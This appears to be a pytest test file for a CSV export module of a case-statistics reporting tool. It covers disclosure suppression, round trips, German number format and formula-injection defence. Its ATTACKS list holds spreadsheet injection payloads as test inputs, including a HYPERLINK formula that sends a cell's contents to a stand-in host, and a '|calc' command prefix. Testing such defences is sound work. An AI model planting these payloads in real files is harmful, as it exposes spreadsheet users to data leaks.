"""CSV export: same suppression as the tables, no formula injection, clean round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from types import MappingProxyType

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fallstelle.reports.csv_export import HEADER, neutralise, release_rows, to_csv, write_csv
from fallstelle.reports.disclosure import (
    DisclosureError,
    Policy,
    Status,
    Suppressed,
    suppress,
    suppress_release,
)
from fallstelle.reports.tables import Label, one_way

from .factories import axis, table

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "＝1",
    "|calc",
]


def parse(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("label", ATTACKS)
def test_formula_labels_are_neutralised(label: str) -> None:
    pub = suppress(one_way("m", Label(label, label), axis("m", 2, [label, "Bildung"]), [30, 40]))
    for row in parse(to_csv([pub])):
        for field in row:
            assert not field.lstrip(" ").startswith(tuple("=+-@|\t\r＝")), field
    assert any(f == "'" + label for row in parse(to_csv([pub])) for f in row)


def test_harmless_text_is_left_alone() -> None:
    assert neutralise("Rassismus") == "Rassismus"
    assert neutralise("12") == "12"
    assert neutralise("") == ""
    assert neutralise("-") == "'-"


@settings(max_examples=80, deadline=None)
@given(
    counts=st.lists(st.lists(st.integers(0, 40), min_size=3, max_size=3), min_size=2, max_size=4),
    label=st.text(min_size=1, max_size=12),
    german=st.booleans(),
)
def test_round_trip_through_the_csv_module(
    counts: list[list[int]], label: str, german: bool
) -> None:
    t = table(counts)
    t = type(t)(
        t.key,
        Label(label, label),
        t.rows,
        t.columns,
        t.counts,
        t.row_totals,
        t.column_totals,
        t.grand_total,
    )
    pub = suppress(t)
    rows = release_rows([pub], german_numbers=german)
    parsed = parse(to_csv([pub], german_numbers=german), ";" if german else ",")
    assert parsed == rows
    assert parsed[0] == list(HEADER)
    cells = [r for r in parsed if r[0] == "cell"]
    assert len(cells) == len(pub.table.cells())
    for row, cell in zip(cells, pub.table.cells(), strict=True):
        expected = "." if pub.is_hidden(cell.position) else str(cell.value)
        assert row[HEADER.index("value")] == expected


def test_hidden_values_never_reach_the_csv_and_percentages_follow_sdc9() -> None:
    pub = suppress(one_way("m", Label("M", "M"), axis("m", 3), [2, 13, 9]))
    text = to_csv([pub])
    values = [r[9] for r in parse(text) if r[0] == "cell"]
    assert values == [".", "13", ".", "24"]  # complement: the smallest, 9
    percents = [r[10] for r in parse(text) if r[0] == "cell"]
    assert percents == ["–", "54.2", "–", ""]  # base 24 ≥ 20
    small = suppress(one_way("s", Label("S", "S"), axis("m", 2), [6, 6]))
    assert [r[10] for r in parse(to_csv([small])) if r[0] == "cell"] == ["–", "–", ""]


def test_german_numbers_use_semicolon_and_decimal_comma() -> None:
    pub = suppress(one_way("m", Label("M", "M"), axis("m", 2), [10, 20]))
    rows = parse(to_csv([pub], german_numbers=True), ";")
    assert [r[10] for r in rows if r[0] == "cell"] == ["33,3", "66,7", ""]


def test_multi_answer_tables_carry_the_note() -> None:
    pub = suppress(
        one_way("m", Label("M", "M"), axis("m", 2), [20, 15], total=25, multi_answer=True)
    )
    text = to_csv([pub])
    assert "mehr als 100 %" in text
    assert "more than 100 %" in to_csv([pub], lang="en")
    assert "Zahl ausgeblendet: 0, weniger als 5 Fälle" in text


def test_a_blocked_release_writes_no_file(tmp_path: Path) -> None:
    t = table([[1, 10], [10, 10]])
    status = dict.fromkeys((c.position for c in t.cells()), Status.PUBLISHED)
    status[(0, 0)] = Status.PRIMARY
    status[(0, 1)] = Status.SECONDARY
    bad = Suppressed(t, MappingProxyType(status), Policy())
    target = tmp_path / "release.csv"
    with pytest.raises(DisclosureError):
        write_csv([bad], target)
    assert not target.exists()
    write_csv(suppress_release([t]), target)
    assert target.read_bytes().startswith(b"\xef\xbb\xbfkind,")
